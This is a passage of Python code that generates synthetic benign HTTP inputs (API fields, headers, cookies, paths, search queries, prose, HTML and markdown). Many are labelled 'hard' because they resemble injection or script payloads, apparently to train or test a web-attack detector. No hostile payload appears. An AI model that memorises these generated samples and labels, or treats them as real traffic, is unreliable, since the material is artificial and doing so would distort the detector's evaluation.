                ("/api/v1/groups", "name"),
                ("/admin/ldap/test", "dn"),
            ],
            j=[
                ("POST", "/api/v1/directory/search", "query"),
                ("PUT", "/api/v1/sso/ldap", "base_dn"),
                ("POST", "/api/v1/groups", "display_name"),
                ("PUT", "/api/v1/sso/ldap", "bind_dn"),
            ],
            f=[("/directory", "search"), ("/admin/ldap", "bind_dn")],
            pp=["/api/v1/groups/{}", "/directory/{}"],
            h=["X-Remote-User", "X-Auth-Request-Groups"],
        ),
        "benign_urls": dict(
            q=[
                ("/login", "return_to"),
                ("/oauth/authorize", "redirect_uri"),
                ("/out", "url"),
                ("/share", "u"),
                ("/api/v1/link-preview", "url"),
            ],
            j=[
                ("POST", "/api/v1/webhooks", "url"),
                ("PUT", "/api/v1/profile", "website"),
                ("POST", "/api/v1/bookmarks", "href"),
                ("POST", "/api/v1/integrations", "callback_url"),
            ],
            f=[("/settings/profile", "homepage"), ("/submit", "link")],
            h=["Referer"],
            pp=["/go/{}", "/preview/{}"],
        ),
        "benign_base64": dict(
            j=[
                ("POST", "/api/v1/uploads", "data"),
                ("POST", "/api/v1/devices/telemetry", "payload"),
                ("POST", "/api/v1/auth/token", "assertion"),
            ],
            q=[("/api/v1/items", "cursor"), ("/dl", "token"), ("/api/v1/verify", "sig")],
            f=[("/saml/acs", "SAMLResponse"), ("/oauth/token", "client_assertion")],
            pp=["/share/{}", "/dl/{}", "/i/{}"],
            h=["X-Payload-Signature"],
            ck=["session", "remember_token"],
        ),
        "benign_commerce": dict(
            j=[
                ("POST", "/api/v1/cart/items", "note"),
                ("POST", "/api/v1/checkout", "address_line1"),
                ("POST", "/api/v1/orders", "gift_message"),
                ("POST", "/api/v1/cart/coupon", "code"),
                ("POST", "/api/v1/products", "title"),
            ],
            q=[
                ("/products", "category"),
                ("/api/v1/products", "q"),
                ("/shop", "sort"),
                ("/api/v1/shipping/rates", "postal_code"),
            ],
            f=[("/checkout", "address_line1"), ("/cart/update", "note")],
            pp=["/products/{}", "/p/{}", "/c/{}"],
            ck=["cart", "recently_viewed"],
        ),
        "benign_logs": dict(
            j=[
                ("POST", "/api/v1/logs", "message"),
                ("POST", "/v1/ingest/events", "line"),
                ("POST", "/api/v1/errors", "stacktrace"),
                ("POST", "/api/v2/logs/bulk", "raw"),
            ],
            mp=[("/api/v1/logs/upload", "file")],
            f=[("/api/v1/crash-report", "trace")],
        ),
    }
)


def B(items, **kw):
    """items: list of (text, hard) -> specs with shared keyword overrides."""
    return [S(t, h, **kw) for t, h in items]


def name():
    return pick(FIRST) + " " + pick(LAST)


def pool_b_api_json():
    out = []
    J = lambda v, h, m, p, f: S(v, h, pl=["json"], j=[(m, p, f)])
    oid = lambda: "ord_" + ralnum(10)
    out += [
        J("«name»", False, "PATCH", "/api/v2/users/" + ruuid(), "displayName"),
        J("Leave at the back door, please. Ring twice.", False, "POST", "/api/v1/orders", "notes"),
        J("America/Sao_Paulo", False, "PUT", "/api/v1/settings", "timezone"),
        J("checkout.completed", False, "POST", "/api/v1/events", "event"),
        J("high", False, "POST", "/api/v1/tickets", "priority"),
        J("Q3 Migration - Phase 2", False, "POST", "/api/v1/projects", "name"),
        J("Pixel 8 Pro", False, "POST", "/api/v1/devices", "model"),
        J("in_progress", False, "PATCH", "/api/v1/tasks/" + str(R.randint(100, 9999)), "status"),
        J("new-checkout-flow", False, "POST", "/api/v1/feature-flags", "key"),
        J("1600 Amphitheatre Pkwy, Mountain View, CA 94043", False, "POST", "/api/v1/locations", "address"),
        J("image/webp", False, "PUT", "/api/v1/users/me/avatar", "contentType"),
        J("http.server.request.duration", False, "POST", "/api/v1/metrics", "name"),
        J("Weekly sync moved to Thursday 10:30 CET", False, "POST", "/api/v1/calendar/events", "title"),
        J("rt_" + ralnum(40), False, "POST", "/api/v1/sessions/refresh", "refresh_token"),
        J("EUR", False, "PUT", "/api/v1/accounts/me/billing", "currency"),
        J("Invoice INV-2026-00417 for November", False, "POST", "/api/v1/invoices", "memo"),
        J(
            "query GetOrder($id: ID!) { order(id: $id) { id status items { sku quantity } } }",
            True,
            "POST",
            "/graphql",
            "query",
        ),
        J(
            "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id bio updatedAt } }",
            True,
            "POST",
            "/graphql",
            "query",
        ),
        J(
            'query { search(term: "union station", first: 10) { edges { node { ... on Place { name } } } } }',
            True,
            "POST",
            "/graphql",
            "query",
        ),
        J("status eq 'open' and priority ge 2", True, "POST", "/api/v1/reports", "filter"),
        J("id,name,email,orders(id,total)", True, "POST", "/rest/v1/rpc/export", "select"),
        J("*/15 * * * 1-5", True, "POST", "/api/v1/schedules", "cron"),
        J("price * quantity - discount", True, "PUT", "/api/v1/sheets/columns/total", "expression"),
        J("created_at >= '2026-01-01' AND region = 'EMEA'", True, "POST", "/api/v1/bi/widgets", "where"),
        J("-created_at,name", False, "POST", "/api/v1/search", "sort"),
        J(
            "npm ci && npm run build && npm test -- --coverage",
            True,
            "PUT",
            "/api/v1/pipelines/web/steps/build",
            "script",
        ),
        J('name:"O\'Brien" OR name:"O Brien"', True, "POST", "/api/v1/contacts/search", "filter"),
        J("^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$", True, "PUT", "/api/v1/forms/signup/fields/email", "pattern"),
        J("$.store.book[?(@.price < 10)].title", True, "POST", "/api/v1/transforms", "jsonpath"),
        J("//book[author='Tolkien']/title", True, "POST", "/api/v1/transforms", "xpath"),
        J(
            "SELECT region, SUM(amount) AS total FROM sales GROUP BY region ORDER BY total DESC",
            True,
            "POST",
            "/api/v1/analytics/saved-queries",
            "sql",
        ),
        J("/bin/bash", True, "POST", "/api/v1/admin/unix-accounts", "shell"),
        J(
            "Drop-in replacement for the union bracket; select your size below.",
            True,
            "PATCH",
            "/api/v1/products/p_" + ralnum(6),
            "description",
        ),
        J("https://app.quillmetrics.io/oauth/callback", False, "POST", "/api/v1/oauth/clients", "redirect_uri"),
        J("../shared/eslint-config", True, "PUT", "/api/v1/workspaces/frontend/settings", "extends"),
        J("sudo systemctl restart nginx", True, "POST", "/api/v1/runbooks/steps", "command"),
        J("if (score > 80 && region == 'EU') { tier = 'gold'; }", True, "POST", "/api/v1/rules", "condition"),
        J("env.NODE_ENV == 'production' || env.DEBUG", True, "POST", "/api/v1/feature-flags/rules", "expr"),
    ]
    for v, h, path, param in [
        ("id,name,price,stock", False, "/api/v1/products", "fields"),
        ("startswith(Name,'Mc') and Age gt 30", True, "/odata/v4/People", "$filter"),
        ("id,title,author(name,avatar_url)", True, "/rest/v1/posts", "select"),
        ('status:open assignee:@me label:"needs review"', True, "/api/v1/issues", "q"),
        ("items.product,customer", False, "/api/v1/orders", "expand"),
        ("2026-11-01T00:00:00Z", False, "/api/v1/events", "since"),
        ("12,15,99,104", False, "/api/v1/users", "ids"),
        ("created_at.desc,id.asc", True, "/rest/v1/orders", "order"),
        ('{"status":"active","price":{"lt":100}}', True, "/api/v1/products", "where"),
        ("author,comments.author", False, "/api/v1/articles", "include"),
        ("Name,Email,Phone", False, "/odata/v4/Customers", "$select"),
        ("count desc", True, "/api/v1/stats/top", "orderby"),
    ]:
        out.append(S(v, h, pl=["query"], q=[(path, param)]))
    for raw in [
        "/api/v1/orders/ord_8F3kQ2Zp/items/3",
        "/api/v2/users/me/preferences",
        "/api/v1/projects/42/members/7",
        "/api/v1/files/f_9a8b7c/versions/3",
        "/v1/customers/cus_Q1w2E3r4T5/subscriptions",
        "/api/v1/repos/quill/web-app/pulls/1287/comments",
        "/api/v1/reports/2026-11/summary.csv",
        "/api/v1/geo/reverse/48.8584,2.2945",
    ]:
        out.append(P([TK(raw, raw)], raw.endswith("2.2945"), pl=["path"]))
    out += [
        S("read:orders write:orders offline_access", False, pl=["form"]),
        S("urn:ietf:params:oauth:client-assertion-type:jwt-bearer", True, pl=["form"], field="client_assertion_type"),
        S("openid profile email https://www.googleapis.com/auth/calendar.readonly", True, pl=["form"]),
        S(
            '{"name":"Q3 report (final).pdf","parents":["fld_' + ralnum(8) + '"],"mimeType":"application/pdf"}',
            True,
            pl=["multipart"],
        ),
        S('{"title":"Board deck","tags":["finance","2026"]}', False, pl=["multipart"]),
        S(ruuid(), False, pl=["header"], hn="Idempotency-Key"),
        S('W/"' + rhex(16) + '"', True, pl=["header"], hn="If-Match"),
        S("id,name,price", False, pl=["header"], hn="X-Fields"),
        S("2026-11-15", False, pl=["header"], hn="X-Api-Version"),
    ]
    return out


def pool_b_headers():
    H = lambda n, v, h=False: S(v, h, pl=["header"], hn=n)
    t32, t16 = rhex(32), rhex(16)
    out = [
        H("User-Agent", "Roku/DVP-12.5 (12.5.0.4178-C2)"),
        H("User-Agent", "Mozilla/5.0 (PlayStation; PlayStation 5/6.50) AppleWebKit/605.1.15 (KHTML, like Gecko)"),
        H(
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.82 Safari/537.36 Edge/20.02",
            True,
        ),
        H(
            "User-Agent",
            "Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.5) AppleWebKit/537.36 (KHTML, like Gecko) 85.0.4183.93/6.5 TV Safari/537.36",
        ),
        H("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        H("User-Agent", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
        H("User-Agent", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
        H("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
        H(
            "User-Agent",
            "aws-sdk-java/2.25.10 Linux/5.10.210-201.852.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/17.0.10+7-LTS Java/17.0.10 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/legacy",
            True,
        ),
        H("User-Agent", "Stripe/v1 PythonBindings/8.9.0"),
        H(
            "User-Agent",
            "Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.42.0 (+https://registry.terraform.io/providers/hashicorp/aws)",
            True,
        ),
        H("User-Agent", "kube-probe/1.29"),
        H("User-Agent", "ELB-HealthChecker/2.0"),
        H("User-Agent", "Prometheus/2.51.0"),
        H(
            "User-Agent",
            "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393",
        ),
        H(
            "User-Agent",
            "Mozilla/5.0 (Linux; Android 12; BRAVIA 4K VH2 Build/STT1.211025.001.Z4) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.230 Mobile Safari/537.36 OPR/46.0.2207.0 OMI/4.24",
            True,
        ),
        H("User-Agent", "GitHub-Hookshot/" + rhex(7)),
        H("User-Agent", "Quill/5.12.3 (com.quillmetrics.app; build:5120301; iOS 17.4.1) Alamofire/5.9.0"),
        H(
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
            True,
        ),
        H("Accept", "application/vnd.github+json"),
        H("Accept", 'application/vnd.api+json; ext="https://jsonapi.org/ext/atomic"', True),
        H("Accept", "application/json, text/javascript, */*; q=0.01", True),
        H("traceparent", f"00-{t32}-{t16}-01"),
        H("tracestate", f"congo=t61rcWkgMzE,rojo={rhex(16)}"),
        H("baggage", "userId=alice,serverNode=DF%2028,isProduction=false", True),
        H("X-Forwarded-For", "203.0.113.195, 70.41.3.18, 150.172.238.178"),
        H("X-Forwarded-For", "2001:db8:85a3::8a2e:370:7334, 10.0.0.12, 10.0.3.7", True),
        H("Forwarded", 'for="[2001:db8:cafe::17]:4711";proto=https;by=10.1.2.3', True),
        H("If-None-Match", 'W/"5e15153d-120f"'),
        H("If-None-Match", '"' + rhex(40) + '"'),
        H(
            "Link",
            '<https://api.lumenfield.io/v1/items?page=3>; rel="next", <https://api.lumenfield.io/v1/items?page=9>; rel="last"',
            True,
        ),
        H("Prefer", "return=minimal"),
        H("Prefer", "respond-async, wait=10"),
        H("Prefer", 'return=representation; include="http://www.w3.org/ns/ldp#PreferContainment"', True),
        H(
            "Signature",
            'keyId="rsa-key-1",algorithm="rsa-sha256",headers="(request-target) host date digest",signature="'
            + b64(rbytes(256))
            + '"',
            True,
        ),
        H("Digest", "SHA-256=" + b64(rbytes(32))),
        H("Content-Digest", "sha-256=:" + b64(rbytes(32)) + ":", True),
        H(
            "Signature-Input",
            'sig1=("@method" "@authority" "@path" "content-digest");created=1767100000;keyid="k1";alg="ed25519"',
            True,
        ),
        H(
            "Authorization",
            "AWS4-HMAC-SHA256 Credential=AKIA"
            + ralnum(16).upper()
            + "/20261207/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature="
            + rhex(64),
            True,
        ),
        H(
            "Authorization",
            'Digest username="ops", realm="api@quillmetrics.io", nonce="'
            + rhex(32)
            + '", uri="/dir/index.html", qop=auth, nc=00000001, cnonce="'
            + rhex(8)
            + '", response="'
            + rhex(32)
            + '", opaque="'
            + rhex(32)
            + '"',
            True,
        ),
        H("Sec-CH-UA", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"', True),
        H(
            "Sec-CH-UA-Full-Version-List",
            '"Chromium";v="124.0.6367.91", "Google Chrome";v="124.0.6367.91", "Not-A.Brand";v="99.0.0.0"',
            True,
        ),
        H("Cache-Control", "no-cache, no-store, max-age=0, must-revalidate"),
        H("Accept-Language", "de-CH,de;q=0.9,fr-CH;q=0.8,fr;q=0.7,en-US;q=0.6,en;q=0.5"),
        H("Range", "bytes=0-1023, 2048-4095"),
        H("X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD"),
        H("Referer", "https://www.google.com/search?q=select+union+jobs+london&oq=select+union", True),
        H("Referer", "https://search.meridianmaps.io/?q=cat+%26+dog+grooming+near+me", True),
        H("Origin", "null", True),
        H("X-Requested-With", "XMLHttpRequest"),
        H("X-Client-Data", "CIa2yQEIpbbJAQipncoBCMKTywEIkqHLAQiFoM0BCNy9zQE="),
        H("X-Cloud-Trace-Context", "105445aa7843bc8bf206b12000100000/1;o=1"),
        H("b3", f"{t32}-{rhex(16)}-1-{rhex(16)}"),
        H("X-Amzn-Trace-Id", f"Root=1-{rhex(8)}-{rhex(24)};Parent={rhex(16)};Sampled=1", True),
        H("Via", "1.1 vegur, 1.1 varnish (Varnish/7.4)"),
        H("X-Device-Info", '{"os":"iOS","ver":"17.4.1","model":"iPhone15,3"}', True),
        H("If-Modified-Since", "Sat, 06 Dec 2026 21:14:07 GMT"),
        H("Priority", "u=0, i"),
        H("Sec-Purpose", "prefetch;prerender", True),
        H("Accept-Encoding", "gzip, deflate, br, zstd"),
        H("X-Forwarded-Proto", "https"),
        H("DNT", "1"),
        H("Upgrade-Insecure-Requests", "1"),
        H("Content-Language", "pt-BR"),
        H("X-Timezone", "America/Argentina/Buenos_Aires"),
        H("Authorization", "Basic " + b64("svc-reporting:" + ralnum(20))),
        H("Authorization", "Bearer " + jwt()),
        H("X-Api-Key", "pk_live_" + ralnum(24)),
        H("Accept", "*/*;q=0.5, text/*;q=0.6, application/json"),
        H(
            "User-Agent",
            "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/312.0.624733089 Mobile/15E148 Safari/604.1",
        ),
        H("X-Forwarded-Host", "shop.brightcedar.com"),
        H("X-Original-Forwarded-For", "198.51.100.23"),
    ]
    C = lambda n, v, h=False: S(v, h, pl=["cookie"], ckn=n)
    out += [
        C(
            "OptanonConsent",
            "isGpcEnabled=0&datestamp=Sat Dec 06 2026 21:14:07 GMT+0100 (Central European Standard Time)&version=202310.2.0&groups=C0001:1,C0002:0,C0004:0",
            True,
        ),
        C("_ga", f"GA1.1.{R.randint(10**8, 10**9)}.1765000000"),
        C("cart", '{"items":[{"sku":"TS-001-M","qty":2},{"sku":"MUG-UNION-01","qty":1}],"currency":"EUR"}', True),
        C("euconsent-v2", "CP" + b64u(rbytes(40))),
        C("ajs_user_id", '"user_' + rhex(8) + '"', True),
        C("lang", "pt-BR"),
        C("recently_viewed", "sku-1001|sku-2044|sku-3310", True),
        C("session", jwt()),
        C("prefs", "theme=dark&density=compact&tz=Europe/Lisbon", True),
    ]
    return out


def pool_b_paths():
    hard_raw = [
        "/files/Q3%20Report%20(final).pdf",
        "/npm/@babel/core@7.24.0/lib/index.js",
        "/cars;color=red;year=2012/models",
        "/repos/acme/widgets/compare/main...feature%2Fauth-refactor",
        "/search/select-a-plan",
        "/products/union-jack-cushion-cover",
        "/events/script-writing-workshop-berlin",
        "/authors/o'brien-siobhan",
        "/tags/c%2B%2B",
        "/maps/@40.7128,-74.0060,12z",
        "/docs/admin-guide/etc/configuration",
        "/recipes/mac-and-cheese-(baked)",
        "/p/Kitchen%20%26%20Dining",
        "/api/v1/buckets/media-prod/objects/users%2F1234%2Favatar.jpg",
        "/cgi-bin/awstats.pl",
        "/courses/sql-injection-prevention-101",
        "/blog/what-is-xss-and-how-to-prevent-it",
        "/music/AC%2FDC/Back%20in%20Black",
        "/products/10%25-off-bundle",
        "/files/report..final.docx",
        "/news/2026/12/07/rock-'n'-roll-hall-of-fame",
        "/@quill/design-system/Button.stories.tsx",
        "/wiki/C_(programming_language)",
        "/wiki/%3F_(film)",
        "/api/v1/search/saved/my%20'urgent'%20tickets",
        "/t/select-dropdown-not-closing-on-blur/4821",
        "/docs/shell/bash-scripting-basics",
        "/wiki/Exec_(Unix)",
        "/learn/javascript/alert-confirm-prompt",
        "/pkg/github.com/quill/api/v2@v2.3.0/internal/",
        "/blog/etc-hosts-explained",
    ]
    easy_raw = [
        "/blog/2026/05/17/how-we-cut-p99-latency-by-40-percent",
        "/docs/v2.3.1/reference/config.yaml",
        "/wiki/Caf%C3%A9_au_lait",
        "/~jsmith/papers/thesis-draft-v3.pdf",
        "/api/v1/users/me/avatar.png",
        "/packages/lodash/4.17.21",
        "/static/js/main.3f9a2c1b.chunk.js",
        "/gallery/2023/IMG_0042.JPG",
        "/tags/c%23",
        "/wiki/Talk:Main_Page",
        "/.well-known/openid-configuration",
        "/api/v1/time/2026-03-29T02:30:00Z",
        "/emoji/%F0%9F%98%80",
        "/%E6%9D%B1%E4%BA%AC/%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
        "/ru/%D0%BA%D0%B0%D1%82%D0%B0%D0%BB%D0%BE%D0%B3/%D0%BA%D0%BD%D0%B8%D0%B3%D0%B8",
        "/downloads/setup-2.4.0-x86_64.AppImage",
        "/v2/library/nginx/manifests/1.25-alpine",
        "/archive/2026/12/07/",
        "/legal/terms-of-service.html",
        "/wp-content/uploads/2026/10/hero-banner-1920x1080.webp",
        "/u/anna.k%C3%B6nig",
        "/calendar/2026-W49",
        "/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi",
        "/books/978-0-13-468599-1",
        "/de/produkte/k%C3%BCchenmaschinen/gr%C3%B6%C3%9Fe-xl",
        "/fr/r%C3%A9servations/h%C3%B4tel-c%C3%B4te-d'azur",
        "/api/v1/projects/quill-web/environments/staging/deployments/1842",
        "/sitemap-products-3.xml.gz",
        "/shop/mens/shirts/oxford-button-down-slim",
        "/docs/kb/KB-10442",
        "/avatars/2x/u_88f1.webp",
    ]
    out = []
    for raw in hard_raw:
        out.append(P([TK(raw, unquote_to_bytes(raw).decode())], True, pl=["path"]))
    for raw in easy_raw:
        out.append(P([TK(raw, unquote_to_bytes(raw).decode())], False, pl=["path"]))
    out += [
        S("/docs/Getting Started.md", False, pl=["query"]),
        S("reports/2026/Q3 summary (draft).xlsx", True, pl=["query"]),
        S("/Shared/Team Drive/Design (v2)/logo.svg", True, pl=["json"]),
        S("uploads/2026/12/07/IMG_2231.HEIC", False, pl=["json"]),
        S("../assets/img/hero.png", True, pl=["json"], field="relativePath"),
        S("/var/lib/docker/volumes/pgdata/_data", True, pl=["query"]),
    ]
    return out


def pool_b_search():
    easy = [
        "wireless headphones",
        "red running shoes size 10",
        "how to reset password",
        "invoice 2026-0117",
        "quarterly report q3",
        "python list comprehension",
        "best pizza near me",
        "flight LHR to JFK",
        "kubernetes ingress timeout",
        "vegan lasagna recipe",
        "warranty claim form",
        "gift card balance",
        "standing desk 140cm",
        "birthday ideas for dad",
        "USB-C hub 4K 60Hz",
        "café crème",
        "東京 ラーメン",
        "Müllerstraße 5 Berlin",
        "noise cancelling",
        "parental leave policy",
        "2fa backup codes",
        "iphone 15 case",
        "return label",
        "tax form 1099",
        "dark mode",
    ]
    hard = [
        "select a star tour hollywood",
        "union station parking",
        "how to escape <script> in jsx",
        "alert fatigue on-call",
        "exec summary template",
        "cat ate chocolate what to do",
        '"exact phrase" -excluded',
        'title:"release notes" AND author:kim',
        "price:[10 TO 50]",
        "^[a-z0-9_-]{3,16}$",
        "\\d{3}-\\d{3}-\\d{4}",
        "drop shipping suppliers",
        "sql join vs union",
        "rm vs rmdir",
        "null pointer exception java",
        "O'Reilly books",
        "Tom & Jerry dvd",
        "c++ templates",
        "<br> vs <br/>",
        "onload vs DOMContentLoaded",
        "document.cookie samesite",
        "sleep apnea test",
        "wget vs curl",
        "etc/hosts file mac",
        "../ relative path meaning",
        "SELECT * FROM in excel",
        "javascript: void(0) meaning",
        "bash if [ -f file ]",
        "${HOME} not expanding",
        "{{ }} angular interpolation",
        "iframe youtube embed size",
        "where 1=1 why",
        "or/and precedence",
        "ping -t windows",
        "delete from table where duplicate",
        "user agent string parser",
        "what does || mean in js",
        "powershell get-childitem recurse",
        "nslookup vs dig",
        "chmod 755 vs 644",
        "order by desc limit 1",
        "onerror img fallback",
    ]
    out = [S(t, False) for t in easy] + [S(t, True) for t in hard]
    for t in ["select union", "script alert"]:
        out.append(S("https://www." + pick(CORP) + "/search?q=" + quote_plus(t), True, pl=["header"], hn="Referer"))
    return out


def pool_b_prose():
    easy = [
        "Great product, arrived two days early. Would buy again!",
        "The battery lasts about 9 hours with the screen at half brightness.",
        "Could you please move my appointment to next Tuesday afternoon?",
        "Thanks for the quick reply, the issue is resolved.",
        "C'est l'été, n'oubliez pas la crème solaire !",
        "Größe passt perfekt; Lieferung dauerte 3–4 Tage.",
        "¿Dónde está la estación de tren más cercana?",
        "配送がとても早くて助かりました。ありがとうございます！",
        "质量很好，价格也合理，推荐购买。",
        "Отличный сервис, всё пришло вовремя.",
        "الخدمة ممتازة وسأطلب مرة أخرى",
        "बहुत अच्छा उत्पाद है, धन्यवाद!",
        "Love it 😍🔥 my kids won't stop playing with it 🎉",
        "Obrigado pela ajuda, até amanhã!",
        "Bardzo dobra jakość, polecam.",
        "Het pakket kwam beschadigd aan, graag een vervanging.",
        "Mooi weer vandaag ☀️",
        "Looking forward to the workshop on Friday.",
        "Ich hätte gern eine Rechnung mit Firmenadresse.",
        "Perfetto, grazie mille!",
    ]
    hard = [
        "I can't believe it's not butter -- seriously, it's great!",
        "Please don't drop the table, it's an antique!",
        "Select your size or choose 'other' if it isn't listed.",
        "We'll meet at 5 o'clock; bring the 'union' contract docs.",
        "If a < b && c > d then the discount applies; otherwise it doesn't.",
        "5 > 3 and 2 < 4, so the order's fine (mostly).",
        "x = (a + b) / 2; that's the average, isn't it?",
        "My son's teacher said \"or else\" -- what's that supposed to mean?",
        "The script for the school play was great; everyone loved the alert little dog.",
        "Rock 'n' roll will never die <3",
        "He said: 'exec committee meets at 9' -- then cancelled. Typical.",
        "Is it 1=1 or 1==1 in your spreadsheet? I'm confused.",
        "Our cat's name is Sudo; she runs the house. :)",
        "Prices went from $10 to $12 -- that's +20% (ouch!).",
        "The <b> tag in the invoice email shows up literally, can you fix that?",
        "Order #4411 && #4412 were combined, right?",
        "Honestly the wait time was 45+ mins; not OK.",
        "Where's the 'Delete account' button? I can't find it anywhere.",
        "Love the new feature -- 'drop' a file and it just uploads!",
        "¡Qué rápido! Pedí el lunes y llegó el martes; 10/10 :-)",
        "I tried ; and | as separators in the CSV import but only , works.",
        "L'équipe d'O'Connor a gagné 3-1 ; quelle soirée !",
        "The admin' panel typo on the login page is still there, fyi.",
        "Use --force only if you know what you're doing, the docs say.",
        "a<b, b<c => a<c (transitivity), as my maths teacher always said.",
    ]
    return [S(t, False) for t in easy] + [S(t, True) for t in hard]


PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


def pool_b_richtext():
    yt = lambda: "".join(
        R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_") for _ in range(11)
    )
    out = []
    for i in range(34):
        n, corp = pick(FIRST), pick(CORP)
        k = i % 17
        if k == 0:
            t, h = (
                f'<p>Hello <strong>team</strong>,</p><p>See <a href="https://docs.{corp}/guide" target="_blank" rel="noopener noreferrer">the guide</a> before Friday.</p>',
                False,
            )
        elif k == 1:
            t, h = (
                f'<p><img src="https://cdn.{corp}/uploads/2026/11/diagram-{rhex(6)}.png" alt="Architecture diagram" width="640" height="360"></p><p>Figure 1: request flow.</p>',
                True,
            )
        elif k == 2:
            t, h = (
                '<table class="table"><thead><tr><th>Plan</th><th>Price</th></tr></thead><tbody><tr><td>Basic</td><td>&euro;9</td></tr><tr><td>Pro</td><td>&euro;29</td></tr></tbody></table>',
                False,
            )
        elif k == 3:
            t, h = (
                f'<p>Watch the recap:</p><iframe width="560" height="315" src="https://www.youtube.com/embed/{yt()}" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe>',
                True,
            )
        elif k == 4:
            t, h = (
                f'<p><span style="color: rgb(230, 0, 0); font-family: Arial, sans-serif; font-size: 14px;">Important:</span> the office is closed on Dec 24.</p>',
                True,
            )
        elif k == 5:
            t, h = (
                f'<div style="padding:56.25% 0 0 0;position:relative;"><iframe src="https://player.vimeo.com/video/{R.randint(10**8, 10**9)}?h={rhex(10)}&amp;badge=0" style="position:absolute;top:0;left:0;width:100%;height:100%;" frameborder="0" allow="autoplay; fullscreen; picture-in-picture"></iframe></div>',
                True,
            )
        elif k == 6:
            t, h = (
                f"<ul><li>Milk</li><li>Eggs &amp; flour</li><li>Butter (unsalted)</li></ul><p><em>Thanks, {n}!</em></p>",
                False,
            )
        elif k == 7:
            t, h = (
                f"<blockquote><p>Select the right tool for the job.</p><footer>&mdash; {n}</footer></blockquote>",
                True,
            )
        elif k == 8:
            t, h = (
                f'<p>Contact us at <a href="mailto:support@{corp}?subject=Order%20question">support@{corp}</a> or call <a href="tel:+4930123456">+49 30 123456</a>.</p>',
                True,
            )
        elif k == 9:
            t, h = (
                '<h2 id="faq">FAQ</h2><details><summary>How do I cancel?</summary><p>Go to <b>Settings &rarr; Billing</b> and click <i>Cancel plan</i>.</p></details>',
                True,
            )
        elif k == 10:
            t, h = (
                f'<p>Our new office:</p><iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d{R.randint(1000, 9999)}.5!2d13.40!3d52.52" width="600" height="450" style="border:0;" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>',
                True,
            )
        elif k == 11:
            t, h = (
                '<figure class="image"><img src="data:image/png;base64,'
                + b64(PNG_MAGIC + rbytes(48))
                + '" alt="icon"><figcaption>Icon</figcaption></figure>',
                True,
            )
        elif k == 12:
            t, h = "<p>Formula: <code>a &lt; b &amp;&amp; b &lt; c</code> implies <code>a &lt; c</code>.</p>", True
        elif k == 13:
            t, h = (
                f'<p style="text-align: center;"><a class="btn btn-primary" href="https://www.{corp}/webinar?utm_source=newsletter&amp;utm_medium=email" style="background:#0a66c2;color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none;">Register now</a></p>',
                True,
            )
        elif k == 14:
            t, h = "<p>Hi all,<br>the <u>union</u> meeting is moved to <strong>Room 3</strong>.<br>Cheers</p>", False
        elif k == 15:
            t, h = (
                f'<video controls width="480" poster="https://cdn.{corp}/v/poster.jpg"><source src="https://cdn.{corp}/v/launch.mp4" type="video/mp4">Your browser does not support the video tag.</video>',
                True,
            )
        else:
            t, h = (
                f'<p class="MsoNormal"><span lang="EN-US" style="mso-ansi-language:EN-US">Dear {n},<o:p></o:p></span></p><p class="MsoNormal">Please find the agenda attached.</p>',
                True,
            )
        out.append(S(t, h))
    return out


def pool_b_markdown():
    docs = [
        (
            "# Release notes\n\n## 2.4.0\n\n- Added dark mode\n- Fixed crash on login (#1287)\n- Bumped `lodash` to 4.17.21\n",
            False,
        ),
        ("## Setup\n\n```bash\nnpm install\nnpm run dev\n```\n\nThen open http://localhost:3000.", True),
        ("| Name | Role |\n|------|------|\n| Ana | Admin |\n| Liam | Viewer |\n", False),
        (
            '![Architecture](https://cdn.lumenfield.io/docs/arch.png "Overview")\n\nSee [the docs](https://docs.kestrelcloud.dev/start).',
            True,
        ),
        ("- [x] write tests\n- [ ] update changelog\n- [ ] ping @mei for review", False),
        ("> **Note**\n> Run `SELECT count(*) FROM orders;` to verify the migration.\n", True),
        (
            "Steps to reproduce:\n1. Go to *Settings*\n2. Click **Delete**\n3. See error `TypeError: undefined is not a function`",
            True,
        ),
        ("Use `<kbd>Ctrl</kbd>+<kbd>C</kbd>` to copy.\n\nFootnote here[^1].\n\n[^1]: Only on Windows.", True),
        ("```python\nimport os\nprint(os.environ.get('HOME'))\n```", True),
        ("### TODO\n\n* Refactor the `exec()` wrapper\n* Remove `eval` from the legacy parser", True),
        ("**Bold**, _italic_, ~~strike~~ and `code`.", False),
        ("```js\ndocument.getElementById('app').innerHTML = '<p>Hello</p>';\n```", True),
